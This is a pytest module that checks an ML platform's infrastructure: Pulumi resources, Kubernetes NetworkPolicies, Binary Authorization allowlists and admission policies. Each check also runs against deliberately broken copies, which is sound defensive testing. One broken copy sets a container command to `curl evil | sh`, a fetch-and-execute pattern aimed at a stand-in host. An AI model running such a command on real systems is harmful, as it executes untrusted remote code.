"""The assembled system: the Pulumi program (both stacks, under mocks), the rendered overlays, the compiled
pipelines and the build configs read together, and held to the rules of the pinned upstream releases.

Each check also runs on a deliberately broken copy of one part and must fail there: a removed ConfigMap,
a ``*`` pattern on a nested image, a pod ``securityContext`` without Knative's flag, and, for every
required network flow (serving, pipelines, KFP's own components, MLflow, lakeFS, build -> cluster), a
copy of the NetworkPolicies without the rules that admit it; a policy that opens a platform service
beyond its callers; a build path that cannot reach the control plane or a firewall that drops the
smoke test's hop."""

from __future__ import annotations

import copy
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from churnops.deploy.render import Release, render
from churnops.platform import declaration as platform
from churnops.platform.settings import Settings
from pipelines.compile import compile_all
from tests.support import assembly, network_flows
from tests.support.assembly import Parts, Stack
from tests.support.k8s_schemas import schema_errors

ROOT = Path(__file__).resolve().parents[3]
DIGEST = "sha256:" + "b" * 64


@pytest.fixture(name="stack", scope="module", params=("staging", "prod"))
def stack_fixture(request: pytest.FixtureRequest) -> Stack:
    """What the Pulumi program registers for one stack."""
    return assembly.dump_stack(request.param)


@pytest.fixture(name="rendered", scope="module")
def rendered_fixture(stack: Stack) -> dict[str, list[dict[str, Any]]]:
    """Both overlays rendered by kustomize for the stack's project."""
    settings = Settings(profile="gke", gcp_project=stack.project)
    return {
        env: render(settings, Release(env=env, image=DIGEST, model_uri="gs://m/1"), ROOT / "manifests")
        for env in platform.ENVIRONMENTS
    }


@pytest.fixture(name="pipelines", scope="module")
def pipelines_fixture(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    """Every pipeline compiled; per pipeline, its tasks' Kubernetes executor configs."""
    specs = {}
    for path in compile_all(tmp_path_factory.mktemp("pipelines")):
        name = path.stem
        documents = list(yaml.safe_load_all(path.read_text(encoding="utf-8")))
        executors = documents[1]["platforms"]["kubernetes"]["deploymentSpec"]["executors"] if len(documents) > 1 else {}
        specs[name] = executors
    return specs


@pytest.fixture(name="parts")
def parts_fixture(stack: Stack, rendered: dict, pipelines: dict) -> Parts:
    """Every part, read together."""
    builds = {name: yaml.safe_load((ROOT / name).read_text(encoding="utf-8")) for name in platform.BUILD_IDENTITY}
    accounts = Settings(profile="gke", gcp_project=stack.project).pipeline_service_accounts
    return Parts(stack, rendered, pipelines, dict(accounts), builds)


def test_every_reference_is_created_by_a_part(parts: Parts) -> None:
    assert parts.pipelines and all(parts.pipelines.values()), "the compiled pipelines carry platform configs"
    assert not (problems := assembly.check_references(parts)), problems


def test_a_removed_config_map_is_caught(parts: Parts) -> None:
    broken = copy.deepcopy(parts)
    broken.stack.resources = [
        r
        for r in broken.stack.resources
        if not (r["type"] == assembly.CONFIG_MAP and r["inputs"]["metadata"]["name"] == platform.CONFIG_MAP_PIPELINES)
    ]
    problems = assembly.check_references(broken)
    assert problems and all("ConfigMap kubeflow/churnops-settings is created by nothing" in p for p in problems)


def test_an_unbound_identity_and_a_missing_service_are_caught(parts: Parts) -> None:
    broken = copy.deepcopy(parts)
    broken.stack.resources = [
        r
        for r in broken.stack.resources
        if not (
            r["type"] == assembly.WI_BINDING
            and "churnops-transformer" in r["inputs"]["member"]
            or r["type"] == assembly.HELM
            and r["inputs"]["name"] == "mlflow"
        )
    ]
    problems = assembly.check_references(broken)
    assert any("transformer" in p and "not Workload-Identity-bound" in p for p in problems)
    assert any("MLflow's address" in p for p in problems)


def test_every_image_that_will_run_is_admitted(stack: Stack) -> None:
    images = assembly.upstream_images(stack)
    assert sum(map(len, images.values())) > 30
    assert not (problems := assembly.check_admission(stack, images)), problems


def test_binary_authorization_pattern_rule() -> None:
    """The rule pattern_admits implements, as the vendored API definition states it."""
    proto = " ".join((assembly.UPSTREAM / "binauthz" / "resources.proto").read_text(encoding="utf-8").split())
    assert (
        "This supports a trailing `*` wildcard, but this is allowed only in // text after the `registry/` part. "
        "This also supports a trailing `**` // wildcard which matches subdirectories of a given entry."
    ) in proto
    queue = "gcr.io/knative-releases/knative.dev/serving/cmd/queue@sha256:" + "c" * 64
    assert not assembly.pattern_admits("gcr.io/knative-releases/*", queue)  # '*' stops at '/'
    assert assembly.pattern_admits("gcr.io/knative-releases/**", queue)  # '**' crosses it
    assert assembly.pattern_admits("gcr.io/nginx*", "gcr.io/nginx@latest")
    assert assembly.normalize_image("mysql:8.4") == "docker.io/library/mysql:8.4"
    assert assembly.normalize_image("treeverse/lakefs:1") == "docker.io/treeverse/lakefs:1"


def test_a_star_pattern_on_a_nested_image_is_caught(stack: Stack) -> None:
    broken = copy.deepcopy(stack)
    (policy,) = broken.of_type(assembly.BINAUTHZ)
    policy["admissionWhitelistPatterns"] = [
        p for p in policy["admissionWhitelistPatterns"] if "knative.dev/serving" not in p["namePattern"]
    ]
    policy["admissionWhitelistPatterns"].append({"namePattern": "gcr.io/knative-releases/*"})
    problems = assembly.check_admission(broken, assembly.upstream_images(broken))
    assert any("serving/cmd/queue" in p and "admitted by no allowlist pattern" in p for p in problems)
    assert any("gcr.io/knative-releases/* admits a whole namespace" in p for p in problems)


def test_serving_pod_specs_use_only_fields_the_pinned_knative_admits(stack: Stack, rendered: dict) -> None:
    assert not (problems := assembly.check_knative_fields(stack, rendered)), problems


def test_a_pod_security_context_without_the_flag_is_caught(stack: Stack, rendered: dict) -> None:
    broken = copy.deepcopy(stack)
    (serving,) = broken.of_type(assembly.KNATIVE_SERVING)
    del serving["spec"]["config"]["features"]["kubernetes.podspec-securitycontext"]
    problems = assembly.check_knative_fields(broken, rendered)
    assert any("predictor: Knative refuses spec.securityContext" in p for p in problems)
    assert any("transformer: Knative refuses spec.securityContext" in p for p in problems)


@pytest.fixture(name="net")
def net_fixture(stack: Stack, rendered: dict, pipelines: dict) -> network_flows.Network:
    """The NetworkPolicies, firewall and DNS of one stack with both overlays and the compiled pipelines."""
    return network_flows.Network.of(stack, rendered, pipelines)


def test_the_required_network_flows_are_allowed(net: network_flows.Network) -> None:
    vip = network_flows.resolve_google_api(net.stack, "storage.googleapis.com")
    assert network_flows.ip_in(platform.GOOGLE_APIS_VIP_CIDR, vip)
    flows = {flow.name for flow in network_flows.required_flows(net)}
    assert {"pipelines -> lakeFS", "pipelines -> MLflow", "pipelines -> Google APIs (GCS, Secret Manager)"} <= flows
    assert f"Job mlflow-bootstrap -> {platform.MLFLOW.url}" in flows  # the Job that creates MLflow's users
    assert {
        f"pipeline {name}: failure alert -> webhook" for name in ("ingest", "training", "scoring", "drift")
    } <= flows
    assert not (problems := network_flows.check(net)), problems


def test_each_flow_fails_on_a_copy_without_the_rules_that_allow_it(net: network_flows.Network) -> None:
    """Every required flow passes because a policy allows it: drop the rules that admit it and it fails."""
    flows = network_flows.required_flows(net)
    assert len(flows) > 60
    for flow in flows:
        assert not network_flows.flow_problems(net, flow), flow
        broken = network_flows.without_rules_for(net, flow)
        problems = network_flows.flow_problems(broken, flow)  # what check() reports about this flow
        assert any(p.startswith(f"{flow.name} (port {flow.port}) is not allowed") for p in problems), flow


def test_a_policy_that_drops_the_ingress_hop_is_caught(stack: Stack, rendered: dict, pipelines: dict) -> None:
    broken = copy.deepcopy(rendered)
    for objects in broken.values():
        for obj in objects:
            if obj["kind"] == "NetworkPolicy" and obj["metadata"]["name"] == "transformer-egress":
                obj["spec"]["egress"] = [rule for rule in obj["spec"]["egress"] if rule["ports"][0]["port"] != 8081]
    problems = network_flows.check(network_flows.Network.of(stack, broken, pipelines))
    assert any("transformer -> Kourier internal gateway" in p for p in problems)


def test_what_every_pod_monitoring_names_is_scraped(net: network_flows.Network) -> None:
    """Managed Service for Prometheus scrapes what the PodMonitorings name, in the serving namespaces (the
    overlays') and in kubeflow and lakefs (the program's): each such pod and port is a required flow."""
    monitorings = {(m["metadata"]["namespace"], m["metadata"]["name"]) for m in network_flows.pod_monitorings(net)}
    assert {(platform.NS_KUBEFLOW, "ml-pipeline"), (platform.NS_LAKEFS, "lakefs")} <= monitorings
    assert {
        (namespace, platform.INFERENCE_SERVICE) for namespace in platform.SERVING_NAMESPACES.values()
    } <= monitorings
    scraped = {
        (f.target.namespace, f.port) for f in network_flows.required_flows(net) if f.source == network_flows.COLLECTOR
    }
    assert {
        (platform.NS_KUBEFLOW, platform.KFP_API.pod_port),
        (platform.NS_LAKEFS, platform.LAKEFS.pod_port),
    } <= scraped
    for namespace in platform.SERVING_NAMESPACES.values():
        assert {(namespace, platform.QUEUE_PROXY_METRICS_PORT), (namespace, platform.SERVING_HTTP_PORT)} <= scraped
    scrapes = [f.name for f in network_flows.required_flows(net) if f.source == network_flows.COLLECTOR]
    for env in platform.SERVING_NAMESPACES:  # the PodMonitoring selects both components' pods
        assert any(name.endswith(f"-> {env} transformer") for name in scrapes), scrapes
        assert any(name.endswith(f"-> {env} predictor") for name in scrapes), scrapes
    assert not network_flows.check(net)
    for monitoring in net.stack.of_type(network_flows.POD_MONITORING):  # the program's, against GMP's CRD
        assert schema_errors(monitoring) == [], monitoring["metadata"]["name"]


@pytest.mark.parametrize(
    ("namespace", "policy", "flow"),
    [
        (
            platform.NS_KUBEFLOW,
            "ml-pipeline-metrics-scrape",
            "metrics scrape (kubeflow/ml-pipeline) -> KFP ml-pipeline",
        ),
        (platform.NS_LAKEFS, "lakefs-metrics-scrape", "metrics scrape (lakefs/lakefs) -> lakeFS"),
        (
            "churnops-staging",
            "predictor-metrics-scrape",
            "metrics scrape (churnops-staging/churn-predictor) -> staging",
        ),
    ],
)
def test_a_namespace_that_does_not_let_the_collectors_in_is_caught(
    net: network_flows.Network, namespace: str, policy: str, flow: str
) -> None:
    broken = copy.deepcopy(net)
    before = len(broken.policies)
    broken.policies = [
        p for p in broken.policies if (p["metadata"]["namespace"], p["metadata"]["name"]) != (namespace, policy)
    ]
    assert len(broken.policies) == before - 1
    problems = network_flows.check(broken)
    assert any(p.startswith(flow) and "is not allowed" in p for p in problems), problems


def test_a_pod_monitoring_that_names_a_port_no_policy_opens_is_caught(net: network_flows.Network) -> None:
    broken = copy.deepcopy(net)
    (lakefs,) = [m for m in broken.stack.of_type(network_flows.POD_MONITORING) if m["metadata"]["name"] == "lakefs"]
    lakefs["spec"]["endpoints"].append({"port": 9100, "path": "/metrics", "interval": "30s"})
    assert "metrics scrape (lakefs/lakefs) -> lakeFS (port 9100) is not allowed by the NetworkPolicies" in (
        network_flows.check(broken)
    )
    for objects in broken.rendered.values():
        for obj in objects:
            if obj["kind"] == "PodMonitoring":
                obj["spec"]["selector"]["matchLabels"] = {"app": "nothing"}
    problems = network_flows.check(broken)
    assert "PodMonitoring churnops-production/churn-predictor selects no pod the system runs" in problems


def test_the_collectors_reach_nothing_a_pod_monitoring_does_not_name(net: network_flows.Network) -> None:
    broken = copy.deepcopy(net)
    for policy in broken.policies:
        if policy["metadata"]["namespace"] == platform.NS_MLFLOW and policy["metadata"]["name"] == "server-ingress":
            policy["spec"]["ingress"].append(
                {"from": [{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": platform.NS_GMP}}}]}
            )
    problems = network_flows.check(broken)
    assert any(p.startswith("metrics scrape -> MLflow (no metrics endpoint) (port 5000) is allowed") for p in problems)


def test_a_policy_that_opens_a_platform_service_is_caught(net: network_flows.Network) -> None:
    """The refused flows hold the policies to least privilege: MLflow open to every pod, or the pods of a
    run sent to the internet, fails the check."""
    broken = copy.deepcopy(net)
    for policy in broken.policies:
        if policy["metadata"]["namespace"] == platform.NS_MLFLOW and policy["metadata"]["name"] == "server-ingress":
            policy["spec"]["ingress"].append({"from": [{"namespaceSelector": {}}]})
        if policy["metadata"]["name"] == "run-pods-egress":
            policy["spec"]["egress"].append({"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]})
    problems = network_flows.check(broken)
    assert any(p.startswith("another namespace -> MLflow (port 5000) is allowed, and must not be") for p in problems)
    assert any(p.startswith("pipelines (not the alert) -> internet") for p in problems)


def test_a_platform_namespace_without_default_deny_is_caught(net: network_flows.Network) -> None:
    broken = copy.deepcopy(net)
    broken.policies = [
        p
        for p in broken.policies
        if not (p["metadata"]["namespace"] == platform.NS_LAKEFS and p["metadata"]["name"] == "default-deny-all")
    ]
    assert "namespace lakefs has no default-deny policy (ingress and egress)" in network_flows.check(broken)


def test_google_apis_without_the_private_zone_are_caught(net: network_flows.Network) -> None:
    broken = copy.deepcopy(net)
    broken.stack.resources = [r for r in broken.stack.resources if r["type"] != network_flows.DNS_ZONE]
    problems = network_flows.check(broken)
    assert any("storage.googleapis.com resolves to no private address" in p for p in problems)


def test_an_unlabelled_alert_task_is_caught(net: network_flows.Network) -> None:
    """The alert's webhook egress selects its pods by the task label the compiled pipelines carry."""
    broken = copy.deepcopy(net)
    for executors in broken.pipelines.values():
        for config in executors.values():
            config.pop("podMetadata", None)
    problems = network_flows.check(broken)
    assert any(p.startswith("pipeline ingest: failure alert -> webhook (port 443) is not allowed") for p in problems)


# ---- build -> cluster ----------------------------------------------------------------------------------------


def test_builds_reach_the_control_plane_and_through_it_the_cluster(parts: Parts) -> None:
    """The private pool reaches the DNS-based endpoint, the kubeconfig targets it before any step uses the
    cluster, and the API server's proxy reaches the revision (smoke test), the KFP API and MLflow (the
    flows above, through the firewall too)."""
    script = (ROOT / ".ci" / "kubeconfig").read_text(encoding="utf-8")
    assert not (problems := network_flows.check_build_path(parts.stack, script, parts.builds)), problems


def test_a_build_path_that_cannot_reach_the_cluster_is_caught(parts: Parts, net: network_flows.Network) -> None:
    broken = copy.deepcopy(parts)
    (cluster,) = broken.stack.of_type(network_flows.CLUSTER)
    cluster["controlPlaneEndpointsConfig"]["dnsEndpointConfig"]["allowExternalTraffic"] = False
    (pool,) = broken.stack.of_type(network_flows.WORKER_POOL)
    pool["workerConfig"]["noExternalIp"] = True
    steps = broken.builds[platform.BUILD_CI]["steps"]
    steps.insert(0, steps.pop(next(i for i, s in enumerate(steps) if ".ci/kubeconfig" in s.get("args", []))))
    steps.append(steps.pop(0))
    problems = network_flows.check_build_path(broken.stack, "endpoint=$(gcloud ... privateEndpoint)", broken.builds)
    assert "the private pool has no external egress: it cannot reach the DNS-based endpoint" in problems
    assert "the cluster's DNS-based endpoint does not admit traffic from outside the VPC" in problems
    assert ".ci/kubeconfig does not target the DNS-based endpoint" in problems
    assert any(p.startswith(f"{platform.BUILD_CI}: step") and "before .ci/kubeconfig" in p for p in problems)
    # the firewall in front of the pods: the control plane's range on the queue-proxy's port
    walled = copy.deepcopy(net)
    for rule in walled.stack.of_type(network_flows.FIREWALL):
        for allow in rule.get("allows", []):
            if "ports" in allow:
                allow["ports"] = [p for p in allow["ports"] if p != str(platform.QUEUE_PROXY_PORT)]
    problems = network_flows.check(walled)
    assert "staging: build smoke test (API server proxy) -> predictor (port 8012) is refused by the VPC firewall" in (
        p.split(" (control plane range)")[0] for p in problems
    )


# ---- upstream facts the platform declaration states ----------------------------------------------------------


def test_the_serving_pod_labels_are_kserves() -> None:
    for component in ("predictor", "transformer"):
        assert network_flows.kserve_pod_labels(component) == platform.serving_pod_labels(component)


def test_the_run_pod_label_is_kfps() -> None:
    assert network_flows.kfp_run_pod_labels() == platform.KFP_RUN_POD_LABELS
    assert network_flows.kfp_client_ports()["ml-pipeline"] == platform.KFP_API_GRPC_PORT


def test_image_names_are_normalised_as_docker_does() -> None:
    """Every case of distribution/reference's own test table (vendored normalize_test.go)."""
    source = (assembly.UPSTREAM / "distribution-reference" / "normalize_test.go").read_text(encoding="utf-8")
    table = source[source.index("func TestNormalizedSplitHostname") :]
    table = table[: table.index("for _, tc := range tests")]
    cases = re.findall(r'input:\s+"([^"]+)",\s+domain:\s+"([^"]+)",\s+path:\s+"([^"]+)"', table)
    assert len(cases) >= 10
    for image, domain, path in cases:
        assert assembly.normalize_image(image) == f"{domain}/{path}", image
    assert assembly.normalize_image("index.docker.io/treeverse/lakefs:1") == "docker.io/treeverse/lakefs:1"


def test_the_operator_chart_tags_its_images_with_the_release() -> None:
    assert assembly.operator_image_tag("1.18.1") == "v1.18.1"
    assert assembly.operator_image_tag(platform.KNATIVE_OPERATOR.version) == platform.KNATIVE_OPERATOR.version


def _inference_service(rendered: dict, env: str) -> dict[str, Any]:
    (isvc,) = [o for o in rendered[env] if o["kind"] == "InferenceService"]
    return isvc


def test_each_serving_namespace_admits_what_deploy_renders_and_its_policy_validates(
    stack: Stack, rendered: dict
) -> None:
    for env, namespace in platform.SERVING_NAMESPACES.items():
        isvc = _inference_service(rendered, env)
        assert isvc["metadata"]["namespace"] == namespace
        assert not assembly.admission_refusals(stack, namespace, isvc, "CREATE")
        assert not assembly.admission_refusals(stack, namespace, isvc, "UPDATE")
        # the other environment's policy is not bound here: the deployer's own namespace rules apply
        bound = [b for b in stack.of_type(assembly.ADMISSION_BINDING) if namespace in str(b["spec"]["matchResources"])]
        assert [b["spec"]["policyName"] for b in bound] == [f"churnops-inferenceservice-{env}"]
    for kind, token in (
        ("ValidatingAdmissionPolicy", assembly.ADMISSION_POLICY),
        ("ValidatingAdmissionPolicyBinding", assembly.ADMISSION_BINDING),
    ):
        for obj in stack.of_type(token):
            typed = {"apiVersion": "admissionregistration.k8s.io/v1", **obj, "kind": kind}
            assert schema_errors(typed) == [], typed["metadata"]["name"]


def _break(isvc: dict[str, Any], change: str) -> dict[str, Any]:
    broken = copy.deepcopy(isvc)
    predictor, transformer = broken["spec"]["predictor"], broken["spec"]["transformer"]
    image = predictor["containers"][0]["image"]
    edits = {
        "a predictor command": lambda: predictor["containers"][0].update(command=["sh", "-c", "curl evil | sh"]),
        "another transformer command": lambda: transformer["containers"][0].update(command=["python", "-c", "1"]),
        "an image by tag": lambda: predictor["containers"][0].update(image=image.split("@")[0] + ":latest"),
        "an image from elsewhere": lambda: transformer["containers"][0].update(
            image="docker.io/library/python@" + image.split("@")[1]
        ),
        "another account": lambda: predictor.update(serviceAccountName="churnops-deployer"),
        "an init container": lambda: transformer.update(initContainers=[{"name": "x", "image": image}]),
        "a model framework": lambda: predictor.update(sklearn={"storageUri": "gs://m/1"}),
        "the serviceAccount alias": lambda: transformer.update(serviceAccount="churnops-deployer"),
        "an image volume": lambda: predictor.update(volumes=[{"name": "v", "image": {"reference": image}}]),
        "an explainer": lambda: broken["spec"].update(explainer={"containers": [{"name": "e", "image": image}]}),
    }
    edits[change]()
    return broken


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ("a predictor command", "predictor containers keep the image's entry point"),
        ("another transformer command", "transformer containers run python -m serving.transformer"),
        ("an image by tag", "predictor containers run"),
        ("an image from elsewhere", "transformer containers run"),
        ("another account", "the predictor runs as churnops-predictor"),
        ("an init container", "no model framework, worker spec, init container"),
        ("a model framework", "no model framework"),
        ("the serviceAccount alias", "serviceAccount alias"),
        ("an image volume", "no image volume"),
        ("an explainer", "no explainer"),
    ],
)
def test_admission_refuses_an_inference_service_that_runs_something_else(
    stack: Stack, rendered: dict, change: str, message: str
) -> None:
    for env, namespace in platform.SERVING_NAMESPACES.items():
        refusals = assembly.admission_refusals(stack, namespace, _break(_inference_service(rendered, env), change))
        assert refusals and any(message in refusal for refusal in refusals), refusals
